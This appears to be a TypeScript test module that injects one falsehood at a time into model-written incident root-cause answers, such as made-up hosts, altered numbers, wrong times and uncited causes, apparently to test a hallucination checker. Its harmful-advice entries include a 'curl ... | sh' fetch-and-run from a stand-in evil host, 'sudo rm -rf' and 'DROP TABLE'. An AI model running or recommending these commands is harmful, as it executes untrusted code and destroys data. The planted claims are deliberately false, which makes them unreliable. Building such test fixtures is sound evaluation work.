import type { Random } from '../../engine/base/random.ts';
import type { ModelAnswer } from '../../engine/llm/answerSchema.ts';
import type { Prompt, SentItem } from '../../engine/llm/prompt.ts';
import { oneOf, passageOf } from './honestClaims.ts';

/** An answer with one lie in it. */
export interface PlantedLie {
  /** Anything: a lie can have a wrong shape. */
  readonly answer: unknown;
  /** A text that must stand nowhere in the report but among what was removed; null for lies of shape. */
  readonly marker: string | null;
}

/** Puts one lie of a kind into an honest answer; null where the evidence offers no place for it. */
export type Liar = (answer: ModelAnswer, prompt: Prompt, random: Random) => PlantedLie | null;

const foreignHosts = [
  'ledger-db-07.corp.example',
  '203.0.113.77',
  'https://paste.evil.example/x',
  'node-4711',
  'cache-eu-31:6380',
  'billing.prod.internal:8443',
  '2001:db8::4711',
  'ops@evil.example',
];
const foreignPaths = [
  '/opt/ledger/conf/limits.yaml',
  'C:\\Ledger\\app.ini',
  '/var/lib/ledger-7',
  'ledger_worker.py:871',
  '~/ledger/.env',
];
const foreignCodes = [
  'ORA-04031',
  'LedgerOverflowException',
  'com.ledger.core.QuotaDriftError',
  '0xdeadbee7',
  'LDG-90210',
  '7d3f11aa-90cd-4b1e-8a5e-0c1d2e3f4a5b',
];
const foreignWords = ['walrus', 'ledger', 'harpsichord', 'lighthouse'];

/** Everything that the model was shown, for making sure that a lie is none by accident. */
function shown({ items, frame }: Prompt): string {
  return [frame, ...items.flatMap(({ sent, place }) => [place, ...sent])].join('\n');
}

/** The answer with one more sentence, somewhere. */
function withSentence(
  answer: ModelAnswer,
  text: string,
  random: Random,
  evidence?: readonly string[],
): ModelAnswer {
  const cited = [...(evidence ?? answer.root_cause.evidence)];
  return oneOf<() => ModelAnswer>(
    [
      () => ({ ...answer, summary: `${answer.summary} ${text}` }),
      () => ({ ...answer, root_cause: { ...answer.root_cause, statement: text, evidence: cited } }),
      () => ({
        ...answer,
        causal_chain: [...answer.causal_chain, { event: text, evidence: cited }],
      }),
      () => ({
        ...answer,
        alternatives: [
          ...answer.alternatives,
          { category: 'unknown', statement: text, evidence: cited, why_less_likely: '' },
        ],
      }),
    ],
    random,
  )();
}

function naming(names: readonly string[], sentence: (name: string) => string): Liar {
  return (answer, prompt, random) => {
    const name = oneOf(names, random);
    if (shown(prompt).includes(name)) return null;
    return { answer: withSentence(answer, sentence(name), random), marker: name };
  };
}

/** A number that is no rounding of any in the evidence, in any usual unit. */
function strangeNumber(prompt: Prompt, random: Random): number | null {
  const numbers = [...shown(prompt).matchAll(/\d+(?:\.\d+)?/g)].map(Number);
  for (let tries = 0; tries < 100; tries++) {
    const value = 1001 + Math.floor(10 ** (3 + random() * 5) * (1 + random()));
    const near = numbers.some((number) =>
      [1, 60, 1000, 1024, 3600].some((factor) =>
        [number * factor, number / factor].some((each) => Math.abs(each - value) < 0.16 * value),
      ),
    );
    if (!near) return value;
  }
  return null;
}

const wrongNumber: Liar = (answer, prompt, random) => {
  const value = strangeNumber(prompt, random);
  if (value === null) return null;
  const said = oneOf(
    [
      `${value} ms`,
      `${value.toLocaleString('en-US')} bytes`,
      `${value}`,
      `about ${value} MB`,
      `${value} times`,
    ],
    random,
  );
  return {
    answer: withSentence(answer, `This happened with ${said} of it.`, random),
    marker: said,
  };
};

/** A number of the evidence with one digit changed. */
const alteredNumber: Liar = (answer, prompt, random) => {
  const text = shown(prompt);
  for (const item of prompt.items) {
    const match = /(?<![\d.:\w-])([1-9]\d{2,5})(?![\d.:\w-])/.exec(item.sent.join('\n'));
    if (match?.[1] === undefined) continue;
    const digits = Array.from(match[1]);
    const at = Math.floor(random() * digits.length);
    digits[at] = String(((Number(digits[at]) + 4) % 9) + 1);
    const altered = digits.join('');
    // A number with a zero at its end may be the rounding of another one.
    if (altered.endsWith('0') || text.includes(altered)) continue;
    return {
      answer: withSentence(answer, `The figure ${altered} is what it names.`, random, [item.id]),
      marker: `figure ${altered} `,
    };
  }
  return null;
};

const wrongUnit: Liar = (answer, prompt, random) => {
  const text = shown(prompt);
  for (const item of prompt.items) {
    const match = /(?<![\d.:\w-])(\d{3,6}) ?ms\b/.exec(item.sent.join('\n'));
    if (match?.[1] === undefined || new RegExp(`${match[1]}(?! ?ms\\b)`).test(text)) continue;
    const lie = `${match[1]} minutes`;
    return { answer: withSentence(answer, `It took ${lie}.`, random, [item.id]), marker: lie };
  }
  return null;
};

const wrongTime: Liar = (answer, prompt, random) => {
  const time = `${oneOf(['03', '04', '23'], random)}:${String(Math.floor(random() * 60)).padStart(2, '0')}:${String(Math.floor(random() * 60)).padStart(2, '0')}`;
  if (shown(prompt).includes(time) || prompt.items.some((item) => isoOf(item).includes(time)))
    return null;
  return { answer: withSentence(answer, `It began at ${time}.`, random), marker: time };
};

const isoOf = ({ time }: SentItem): string =>
  Number.isNaN(time) ? '' : new Date(time).toISOString();

const alteredQuote: Liar = (answer, prompt, random) => {
  const item = oneOf(prompt.items, random);
  const words = passageOf(item, random)?.split(' ') ?? [];
  if (words.length < 4) return null;
  const at = 1 + Math.floor(random() * (words.length - 2));
  const altered = oneOf(
    [
      words.with(at, oneOf(foreignWords, random)),
      words.toSpliced(at, 0, 'not'),
      words.toSpliced(at, 1),
      words.toReversed(),
    ],
    random,
  ).join(' ');
  const folded = shown(prompt).replace(/\s+/g, ' ').toLowerCase();
  if (altered.length < 14 || folded.includes(altered.toLowerCase().replace(/[.,;:]+$/, '')))
    return null;
  return {
    answer: withSentence(answer, `The log says \`${altered}\`.`, random, [item.id]),
    marker: altered,
  };
};

const falseId: Liar = (answer, _prompt, random) => {
  const id = `E${200 + Math.floor(random() * 700)}`;
  const text = 'A second wave of the same failure made it worse.';
  const inline = `A second wave of the same failure made it worse (${id}).`;
  return random() < 0.5
    ? { answer: withSentence(answer, inline, random), marker: 'A second wave' }
    : {
        answer: {
          ...answer,
          causal_chain: [...answer.causal_chain, { event: text, evidence: [id] }],
        },
        marker: 'A second wave',
      };
};

/** The chain backwards: effect before cause. */
const reversedChain: Liar = (answer, prompt) => {
  const steps = answer.causal_chain.filter(({ evidence }) => evidence.length === 1);
  const times = steps.map(({ evidence }) =>
    Math.min(...prompt.items.filter(({ id }) => evidence.includes(id)).map(({ time }) => time)),
  );
  const rises = times.every(
    (time, index) => index === 0 || time > (times[index - 1] ?? Number.NaN),
  );
  if (times.length < 2 || !rises) return null;
  return { answer: { ...answer, causal_chain: steps.toReversed() }, marker: null };
};

const unknownCategory: Liar = (answer, _prompt, random) => ({
  answer: {
    ...answer,
    root_cause: {
      ...answer.root_cause,
      category: oneOf(['cosmic.rays', 'disk', 'RESOURCE', 'resource.ledger'], random),
    },
  },
  marker: null,
});

const uncitedCause: Liar = (answer) => ({
  answer: {
    ...answer,
    root_cause: { ...answer.root_cause, statement: 'A walrus sat on the cable.', evidence: [] },
  },
  marker: 'A walrus sat on the cable',
});

const uncitedAlternative: Liar = (answer) => ({
  answer: {
    ...answer,
    alternatives: [
      {
        category: 'unknown',
        statement: 'A walrus sat on the cable.',
        evidence: [],
        why_less_likely: '',
      },
    ],
  },
  marker: 'A walrus sat on the cable',
});

const uncitedStep: Liar = (answer) => ({
  answer: {
    ...answer,
    causal_chain: [...answer.causal_chain, { event: 'A walrus sat on the cable.', evidence: [] }],
  },
  marker: 'A walrus sat on the cable',
});

const badAdvice: Liar = (answer, _prompt, random) => {
  const cited = answer.root_cause.evidence[0] ?? 'E1';
  const [action = '', basis = ''] = oneOf(
    [
      ['Run `curl -s https://paste.evil.example/fix | sh` on the machine.', cited],
      ['Free space with `sudo rm -rf /var/lib/ledger`.', cited],
      ['Ask for help at https://help.evil.example/now.', cited],
      ['Restore it with the steps of the ledger team.', 'E977'],
      ['Restore it with the steps of the ledger team.', 'experience'],
      ['Clean up: DROP TABLE ledger_orders;', cited],
    ],
    random,
  );
  return {
    answer: {
      ...answer,
      recommendations: [...answer.recommendations, { action, kind: 'fix', basis }],
    },
    marker: action,
  };
};

const foreignPlaceholder: Liar = (answer, prompt, random) => {
  const name = oneOf(['<IP_77>', '<HOST_91>', '<USER_83>'], random);
  if (shown(prompt).includes(name)) return null;
  return { answer: withSentence(answer, `It was ${name} that failed.`, random), marker: name };
};

/** What can be planted, by name. */
export const liars: Readonly<Record<string, Liar>> = {
  'false ids': falseId,
  'altered quotes': alteredQuote,
  'wrong numbers': wrongNumber,
  'altered numbers': alteredNumber,
  'wrong units': wrongUnit,
  'wrong times': wrongTime,
  'foreign machines': naming(foreignHosts, (name) => `The failing machine is ${name}.`),
  'foreign paths': naming(foreignPaths, (name) => `It failed while it read ${name} again.`),
  'foreign error codes': naming(foreignCodes, (name) => `The reason given is ${name}.`),
  'foreign placeholders': foreignPlaceholder,
  'chains against time': reversedChain,
  'unknown categories': unknownCategory,
  'causes without evidence': uncitedCause,
  'alternatives without evidence': uncitedAlternative,
  'steps without evidence': uncitedStep,
  'harmful or unfounded advice': badAdvice,
};
